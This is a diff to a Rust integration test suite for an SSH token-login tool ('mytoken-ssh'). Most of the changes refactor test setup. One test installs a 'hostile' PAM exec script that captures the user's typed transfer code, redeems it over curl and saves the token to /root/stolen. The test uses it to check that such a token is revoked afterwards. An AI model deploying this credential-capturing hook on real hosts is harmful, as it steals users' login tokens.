@@ -9,7 +9,7 @@ use serde_json::{Value, json};
 use testbed::drive::journal::Journal;
 use testbed::drive::people::{self, Session};
 use testbed::drive::{askpass, tokens};
-use testbed::{Error, Options, Result, Site, skip, story, story_with_own_servers};
+use testbed::{Error, Need, Options, Result, Site, story, story_needing, story_with_own_servers};
 
 /// Plain ssh to the site, which authenticates only by the prompt.
 const PLAIN_SSH: &str = "ssh -o PreferredAuthentications=keyboard-interactive -o NumberOfPasswordPrompts=1 testbed";
@@ -35,12 +35,8 @@ fn session_files(site: &Site) -> Result<String> {
 
 #[test]
 fn a_first_mytoken_by_link_and_browser_logs_in_without_password_and_key() -> Result<()> {
-    let options = one_node()?;
-    if options.foreign.is_some() {
-        return skip("a person would have to open the link: the pages of a foreign server are not known here");
-    }
-    story(options, |site| {
-        people::first_mytoken(site, "alice")?;
+    story_needing(&[Need::Browser], one_node()?, |site| {
+        people::log_in_by_link(site, "alice", &people::login_command(site))?;
         let inside =
             site.sh("alice", "mytoken-ssh ssh testbed 'id -un; wc -l <$BEARER_TOKEN_FILE; echo \"<$MYTOKEN_FILE>\"'")?;
         let log = site.read("/var/log/all.log")?;
@@ -167,20 +163,25 @@ fn a_double_dash_reaches_ssh_wherever_it_stands() -> Result<()> {
 }
 
 /// The program that PAM runs on a hostile host. It redeems the transfer code and refuses the login.
-const HOSTILE: &str = r#"#!/bin/sh
+fn hostile(site: &Site) -> String {
+    let ca = tokens::ca_of_server(site).map(|ca| format!("--cacert {ca}")).unwrap_or_default();
+    let server = tokens::server(site);
+    format!(
+        r#"#!/bin/sh
 code=$(tr -d '\000\n')
-printf '{"grant_type": "transfer_code", "transfer_code": "%s"}' "$code" |
-    curl -sS --cacert /etc/ssl/testbed-ca.pem -H 'Content-Type: application/json' -d @- \
-        https://mytoken.testbed:8443/api/v0/token/my >>/root/stolen
+printf '{{"grant_type": "transfer_code", "transfer_code": "%s"}}' "$code" |
+    curl -sS {ca} -H 'Content-Type: application/json' -d @- {server}/api/v0/token/my >>/root/stolen
 exit 1
-"#;
+"#
+    )
+}
 
 #[test]
 fn a_mytoken_redeemed_by_a_hostile_host_is_revoked_after_its_refusal() -> Result<()> {
-    story_with_own_servers(one_node()?, |site| {
+    story(one_node()?, |site| {
         people::first_mytoken(site, "alice")?;
         site.sh("alice", "echo 'prompts = [\"Password:\"]' >>.config/mytoken/config.toml")?.ok()?;
-        site.write("/root/hostile", HOSTILE, "0700")?;
+        site.write("/root/hostile", &hostile(site), "0700")?;
         let stack = "auth required pam_exec.so expose_authtok /root/hostile\naccount required pam_permit.so\n";
         site.write("/etc/pam.d/sshd", stack, "0644")?;
         let outcome = site.sh("alice", "mytoken-ssh ssh --delegate testbed echo inside")?;
@@ -209,7 +210,7 @@ fn a_session_that_exits_with_255_keeps_its_mytoken() -> Result<()> {
 
 #[test]
 fn a_long_token_is_sent_under_any_prompt_and_locale() -> Result<()> {
-    story_with_own_servers(one_node()?, |site| {
+    story_needing(&[Need::FirstToken], one_node()?, |site| {
         let mytoken = tokens::mytoken(site, "alice", &json!({}))?;
         assert!(askpass::split_token(&mytoken).len() >= 2, "the mytoken is short enough for one answer");
         site.script("alice", "umask 077; cat >token; mkdir -p .config/mytoken").stdin(mytoken).run()?.ok()?;
@@ -257,7 +258,7 @@ fn a_mytoken_delegated_for_scp_is_revoked_afterwards() -> Result<()> {
 
 #[test]
 fn every_kind_of_token_typed_at_the_prompt_logs_in() -> Result<()> {
-    story_with_own_servers(one_node()?, |site| {
+    story_needing(&[Need::FirstToken], one_node()?, |site| {
         let mytoken = tokens::mytoken(site, "alice", &json!({}))?;
         let pieces = askpass::split_token(&mytoken);
         assert!(pieces.len() >= 2, "the mytoken is short enough for one answer");
@@ -289,7 +290,7 @@ fn every_kind_of_token_typed_at_the_prompt_logs_in() -> Result<()> {
 
 #[test]
 fn a_transfer_code_works_once() -> Result<()> {
-    story_with_own_servers(one_node()?, |site| {
+    story_needing(&[Need::FirstToken], one_node()?, |site| {
         let code = tokens::transfer_code(site, &tokens::mytoken(site, "alice", &json!({}))?)?;
         let log_in = format!("{PLAIN_SSH} echo inside");
         let first = askpass::run_with_answers(site, "alice", &[&code], &log_in)?;
@@ -305,7 +306,7 @@ fn a_transfer_code_works_once() -> Result<()> {
 
 #[test]
 fn bobs_token_is_refused_for_alices_account_in_one_sentence() -> Result<()> {
-    story_with_own_servers(one_node()?, |site| {
+    story_needing(&[Need::FirstToken], one_node()?, |site| {
         people::first_mytoken(site, "bob")?;
         let outcome = site.sh("bob", "mytoken-ssh ssh alice@testbed echo inside")?;
         assert_eq!((outcome.code, outcome.stdout.as_str()), (255, ""), "{outcome:?}");
